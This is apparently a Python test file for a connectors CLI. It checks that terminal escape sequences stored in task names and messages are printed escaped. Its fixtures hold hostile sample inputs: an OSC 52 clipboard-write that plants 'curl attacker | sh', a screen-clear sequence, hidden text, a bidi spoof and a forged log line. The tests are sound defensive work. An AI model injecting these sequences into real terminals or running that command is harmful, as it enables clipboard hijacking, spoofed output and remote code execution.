"""Issue 18: `connectors tasks list|show` never writes a caller's terminal escape sequences to the
operator's terminal.

A task's caller chooses its run and action names, project and domain, its task type and (through
the connector) its message. Each is stored as given, and an operator prints them: an OSC 52
sequence would write the operator's clipboard, a CSI one clear the screen or hide text, a newline
forge a line, a bidi override reorder what is read. The tasks are created through the served app;
the command runs as `connectors tasks` does (the CLI's ``main``), its output captured.
"""

from __future__ import annotations

import json
import re

import pytest

from connectors.builtin.echo import EchoConnector
from connectors.cli import main
from connectors.dev.tasks_output import printable
from tests.flyte_requests import echo_request

CLIPBOARD = "\x1b]52;c;Y3VybCBhdHRhY2tlciB8IHNo\x07"  # OSC 52: "curl attacker | sh" into the clipboard
CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
HIDDEN = "\x1b[8mhidden\x1b[0m"  # concealed text
C1 = "\x9b31m"  # CSI as one C1 control character
BIDI = "\u202egnp.exe\u202c"  # right-to-left override
FORGED = "\nrun-ok  a0  0  echo/0  SUCCEEDED"  # a line of its own
RUN = f"r18{CLIPBOARD}{CLEAR}x"
ACTION = f"a{HIDDEN}{C1}{BIDI}\u2028\u200b"
MESSAGE = f"failed {CLIPBOARD}{FORGED}\r{CLEAR}"


def raw_controls(text: str) -> list[str]:
    """Characters a terminal would not show as themselves (newlines between lines aside)."""
    return sorted({char for char in text if char != "\n" and not char.isprintable()})


@pytest.fixture
def created(aws_world, monkeypatch):
    world = aws_world(EchoConnector())
    request = echo_request(run=RUN, action=ACTION, custom={"fail": MESSAGE})
    request.task_execution_metadata.task_execution_id.node_execution_id.execution_id.project = f"p{CLEAR}"
    handle = world.create(request)
    assert world.poll(handle, "echo").message == MESSAGE  # stored and answered as the task gave it
    return world, handle


def cli(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(["tasks", *argv])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_tasks_list_prints_a_callers_escape_sequences_escaped(created, capsys):
    world, _ = created
    code, out, err = cli(capsys, "list", "--table", world.settings.tasks_table, "--handles")
    assert code == 0, err
    assert raw_controls(out + err) == []
    assert len(out.splitlines()) == 2  # the header and the task: no forged line
    row = out.splitlines()[1]
    assert row.startswith(printable(RUN)) and printable(ACTION) in row
    assert "\\x1b]52;c;" in row and "\\u202e" in row and "\\x9b31m" in row


def test_tasks_show_prints_every_stored_string_escaped(created, capsys):
    world, handle = created
    code, out, err = cli(capsys, "show", handle.decode(), "--table", world.settings.tasks_table)
    assert code == 0, err
    assert raw_controls(out + err) == []
    fields = dict(re.match(r"^([a-z ]+):\s+(.*)$", line).groups() for line in out.splitlines() if ":" in line[:16])
    assert fields["run"] == printable(RUN) and fields["action"] == printable(ACTION)
    assert fields["message"] == printable(MESSAGE) and fields["project"].startswith("p\\x1b[2J")


def test_json_output_carries_them_as_json_escapes(created, capsys):
    world, _ = created
    code, out, err = cli(capsys, "list", "--json", "--table", world.settings.tasks_table)
    assert code == 0, err
    assert raw_controls(out) == []
    (row,) = json.loads(out)
    assert (row["run"], row["action"], row["message"]) == (RUN, ACTION, MESSAGE)  # the values themselves, intact


@pytest.mark.parametrize(
    "text, shown",
    [
        ("\x1b]52;c;eA==\x07", "\\x1b]52;c;eA==\\x07"),
        ("a\tb\r\nc", "a\\x09b\\x0d\\x0ac"),
        ("\x7f\x85\x9b", "\\x7f\\x85\\x9b"),
        ("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f", None),
        ("\u200b\u200d\ufeff\u2028\u2029\u00a0\u00ad", None),
        ("\ud800", "\\ud800"),  # a lone surrogate (surrogateescape)
        ("\U000e0001\U0010fffd", "\\U000e0001\\U0010fffd"),  # tag characters, private use
        ("C:\\x1b", "C:\\\\x1b"),  # a backslash the text spelled out is doubled
        ("é 中文 ok", "é 中文 ok"),
    ],
)
def test_printable_escapes_what_a_terminal_would_not_show_as_itself(text, shown):
    escaped = printable(text)
    assert raw_controls(escaped) == [] and "\n" not in escaped
    if shown is not None:
        assert escaped == shown
